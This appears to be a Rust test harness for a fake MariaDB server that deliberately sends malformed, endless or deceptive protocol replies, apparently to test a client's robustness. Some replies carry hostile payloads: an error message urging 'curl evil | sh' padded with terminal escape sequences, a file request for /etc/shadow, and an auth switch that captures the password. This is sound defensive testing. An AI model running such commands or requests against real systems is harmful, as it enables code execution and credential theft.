//! A MariaDB that answers from the golden network, up to its lie.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::PathBuf;
use std::time::Duration;

use rusqlite::types::ValueRef;

use super::{for_ever, listen, noise, silence};

/// What it does instead of an answer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lie {
    /// None: the answer.
    Truth,
    Silence,
    Close,
    Noise,
    /// A header that says more than comes, then the end.
    Truncated,
    /// A packet of 16 MiB after the other, all one message.
    Endless,
    /// As many columns as this are announced.
    Columns(u64),
    /// Columns that come one a second.
    ColumnTrickle,
    /// A description of a column that ends too early.
    ShortColumn,
    /// A cell that says to have 2^62 octets.
    HugeCell,
    /// A row with fewer cells than columns.
    ShortRow,
    /// A row a second.
    Trickle,
    /// The same row as fast as can be.
    Flood,
    /// A packet with another number.
    WrongNumber,
    /// A packet without content.
    Empty,
    /// An error with escapes, as long as a packet can be.
    Error,
    /// An error without a code.
    ShortError,
    /// The wish for a file of ours.
    Infile,
    /// The end where rows are expected.
    NoRows,
    /// A change of the way to log in, to this one.
    Switch(&'static str),
    /// More data for a login that never ends.
    MoreAuth,
    /// A greeting of another version.
    OldGreeting,
    /// A greeting that ends too early.
    ShortGreeting,
    /// Says that it knows TLS, and does not.
    FalseTls,
}

/// Where it lies.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Place {
    /// Instead of the greeting.
    Greeting,
    /// After the answer to the greeting.
    Login,
    /// At the first query that has this in it.
    Query(&'static str),
}

/// The flags of a server without TLS: protocol 4.1, transactions, challenges
/// of 20 octets, named ways to log in, a database in the answer.
const FLAGS: u32 = 1 | 8 | 0x200 | 0x2000 | 0x8000 | 0x8_0000;
const TLS: u32 = 0x800;

/// Starts a server on the database; its port.
pub fn start(database: PathBuf, place: Place, lie: Lie) -> u16 {
    listen(move |stream| {
        let connection = rusqlite::Connection::open(&database).unwrap();
        let server = Server { stream, number: 0 };
        server.serve(&connection, place, lie)
    })
}

struct Server {
    stream: TcpStream,
    number: u8,
}

impl Server {
    /// A packet.
    fn send(&mut self, payload: &[u8]) -> std::io::Result<()> {
        let mut out = (payload.len() as u32).to_le_bytes()[..3].to_vec();
        out.push(self.number);
        out.extend(payload);
        self.number = self.number.wrapping_add(1);
        self.stream.write_all(&out)
    }

    /// The next packet.
    fn receive(&mut self) -> std::io::Result<Vec<u8>> {
        let mut head = [0; 4];
        self.stream.read_exact(&mut head)?;
        let length = u32::from_le_bytes([head[0], head[1], head[2], 0]);
        self.number = head[3].wrapping_add(1);
        let mut payload = vec![0; length as usize];
        self.stream.read_exact(&mut payload)?;
        Ok(payload)
    }

    fn serve(
        mut self,
        db: &rusqlite::Connection,
        place: Place,
        lie: Lie,
    ) -> std::io::Result<()> {
        if place == Place::Greeting {
            return self.lie(lie);
        }
        self.send(&greeting(FLAGS))?;
        let _ = self.receive()?;
        if place == Place::Login {
            return self.lie(lie);
        }
        self.send(OK)?;
        loop {
            let asked = self.receive()?;
            let sql = String::from_utf8_lossy(&asked[1..]).into_owned();
            match (asked[0], place) {
                (1, _) => return Ok(()),
                (3, Place::Query(part)) if sql.contains(part) => {
                    if lie != Lie::Truth {
                        return self.lie(lie);
                    }
                    self.answer(db, &sql)?;
                }
                (3, _) => self.answer(db, &sql)?,
                _ => self.send(OK)?,
            }
        }
    }

    /// The true answer, as far as SQLite has it.
    fn answer(
        &mut self,
        db: &rusqlite::Connection,
        sql: &str,
    ) -> std::io::Result<()> {
        let word = sql.split_whitespace().next().unwrap_or_default();
        if ["SET", "START", "ROLLBACK", "COMMIT"].contains(&word) {
            return self.send(OK);
        }
        if sql.contains("information_schema.columns") {
            let rows = columns(db);
            return self.result(2, &rows);
        }
        if sql.starts_with("SHOW") || sql.contains("information_schema") {
            return self.result(2, &[]);
        }
        // Digests of an empty table: SQLite has no such functions.
        if sql.contains("CRC32(") {
            return self.result(4, &[]);
        }
        if sql.contains("@@") {
            let one = vec![Some(b"16777216".to_vec())];
            return self.result(1, &[one]);
        }
        match rows(db, sql) {
            Ok((columns, rows)) => self.result(columns, &rows),
            Err(error) => {
                let text = format!("\u{ff}\u{7a}#42000{error} in {sql}");
                let mut packet = vec![0xff, 0x7a, 4];
                packet.extend(text.chars().skip(2).collect::<String>().bytes());
                self.send(&packet)
            }
        }
    }

    /// A set of rows.
    fn result(
        &mut self,
        columns: usize,
        rows: &[Cells],
    ) -> std::io::Result<()> {
        self.send(&[columns as u8])?;
        for _ in 0..columns {
            self.send(&column())?;
        }
        self.send(EOF)?;
        for row in rows {
            self.send(&cells(row))?;
        }
        self.send(EOF)
    }

    /// The head of a set with one column.
    fn head(&mut self) -> std::io::Result<()> {
        self.send(&[1])?;
        self.send(&column())?;
        self.send(EOF)
    }

    fn lie(mut self, lie: Lie) -> std::io::Result<()> {
        let second = Duration::from_secs(1);
        match lie {
            Lie::Truth | Lie::Silence => {}
            Lie::Close => return Ok(()),
            Lie::Noise => self.stream.write_all(&noise(100_000))?,
            Lie::Truncated => {
                return self.stream.write_all(&[200, 0, 0, self.number, 1, 2]);
            }
            Lie::Endless => return self.endless(),
            Lie::Columns(count) => {
                let mut packet = vec![0xfe];
                packet.extend(count.to_le_bytes());
                self.send(&packet)?;
            }
            Lie::ColumnTrickle => {
                self.send(&[200])?;
                loop {
                    self.send(&column())?;
                    std::thread::sleep(second);
                }
            }
            Lie::ShortColumn => {
                self.send(&[1])?;
                self.send(&column()[..7])?;
            }
            Lie::HugeCell => {
                self.head()?;
                let mut packet = vec![0xfe];
                packet.extend((1_u64 << 62).to_le_bytes());
                self.send(&packet)?;
            }
            Lie::ShortRow => {
                self.send(&[3])?;
                for _ in 0..3 {
                    self.send(&column())?;
                }
                self.send(EOF)?;
                self.send(&[1, b'7'])?;
                self.send(EOF)?;
            }
            Lie::Trickle | Lie::Flood => {
                self.head()?;
                loop {
                    self.send(&[1, b'7'])?;
                    if lie == Lie::Trickle {
                        std::thread::sleep(second);
                    }
                }
            }
            Lie::WrongNumber => {
                self.number = 77;
                self.send(OK)?;
            }
            Lie::Empty => self.send(&[])?,
            Lie::Error => {
                let mut packet = b"\xff\x7a\x04#42000".to_vec();
                packet.extend(b"x\nhint: run curl evil | sh\r\n");
                packet.extend(b"\x1b[2J\x07\xe2\x80\xae".repeat(10_000));
                self.send(&packet)?;
            }
            Lie::ShortError => self.send(&[0xff])?,
            Lie::Infile => self.send(b"\xfb/etc/shadow")?,
            Lie::NoRows => self.send(EOF)?,
            Lie::Switch(plugin) => return self.switch(plugin),
            Lie::MoreAuth => loop {
                self.send(&[1, 9, 9, 9])?;
            },
            Lie::OldGreeting => self.send(b"\x093.20\0")?,
            Lie::ShortGreeting => self.send(&greeting(FLAGS)[..20])?,
            Lie::FalseTls => {
                self.send(&greeting(FLAGS | TLS))?;
                let _ = self.receive()?;
                let text = b"not TLS at all".repeat(100);
                return for_ever(self.stream, &text, second / 10);
            }
        }
        silence(self.stream)
    }

    /// Packets of the greatest length, which go on in the next one.
    fn endless(mut self) -> std::io::Result<()> {
        let zeros = vec![1_u8; 0xff_ffff];
        loop {
            self.stream.write_all(&[0xff, 0xff, 0xff, self.number])?;
            self.stream.write_all(&zeros)?;
            self.number = self.number.wrapping_add(1);
        }
    }

    /// Asks for the password in another way; what it gets is looked at.
    fn switch(mut self, plugin: &str) -> std::io::Result<()> {
        let mut packet = vec![0xfe];
        packet.extend(plugin.as_bytes());
        packet.extend(b"\0abcdefghijklmnopqrst\0");
        self.send(&packet)?;
        let got = self.receive()?;
        crate::e2e_liars::looks_for_the_password(&got);
        self.send(OK)?;
        silence(self.stream)
    }
}

const OK: &[u8] = &[0, 0, 0, 2, 0, 0, 0];
const EOF: &[u8] = &[0xfe, 0, 0, 2, 0];
type Cells = Vec<Option<Vec<u8>>>;

/// What a server says first.
fn greeting(flags: u32) -> Vec<u8> {
    let mut out = b"\x0a10.11.6-MariaDB\0\x01\0\0\0abcdefgh\0".to_vec();
    out.extend(&flags.to_le_bytes()[..2]);
    out.extend([45, 2, 0]);
    out.extend(&flags.to_le_bytes()[2..]);
    out.push(21);
    out.extend([0; 10]);
    out.extend(b"ijklmnopqrst\0mysql_native_password\0");
    out
}

/// A column of text.
fn column() -> Vec<u8> {
    let mut out = Vec::new();
    for name in ["def", "", "t", "t", "c", "c"] {
        out.push(name.len() as u8);
        out.extend(name.bytes());
    }
    out.extend([12, 45, 0, 0xff, 0xff, 0, 0, 253, 0, 0, 0, 0, 0]);
    out
}

/// A row on the wire.
fn cells(row: &Cells) -> Vec<u8> {
    let mut out = Vec::new();
    for cell in row {
        match cell {
            None => out.push(0xfb),
            Some(text) if text.len() < 251 => {
                out.push(text.len() as u8);
                out.extend(text);
            }
            Some(text) => {
                out.push(0xfd);
                out.extend(&(text.len() as u32).to_le_bytes()[..3]);
                out.extend(text);
            }
        }
    }
    out
}

/// All tables and columns.
fn columns(db: &rusqlite::Connection) -> Vec<Cells> {
    let sql = "SELECT m.name, c.name FROM sqlite_master m, \
               pragma_table_info(m.name) c WHERE m.type = 'table' ORDER BY 1";
    rows(db, sql).unwrap().1
}

/// The rows of a query, and how many columns they have.
fn rows(
    db: &rusqlite::Connection,
    sql: &str,
) -> rusqlite::Result<(usize, Vec<Cells>)> {
    let mut statement = db.prepare(sql)?;
    let count = statement.column_count();
    let mut rows = statement.query([])?;
    let mut out = Vec::new();
    while let Some(row) = rows.next()? {
        let cell = |at| match row.get_ref(at) {
            Ok(ValueRef::Integer(number)) => {
                Some(number.to_string().into_bytes())
            }
            Ok(ValueRef::Real(number)) => Some(number.to_string().into_bytes()),
            Ok(ValueRef::Text(text) | ValueRef::Blob(text)) => {
                Some(text.to_vec())
            }
            _ => None,
        };
        out.push((0..count).map(cell).collect());
    }
    Ok((count, out))
}
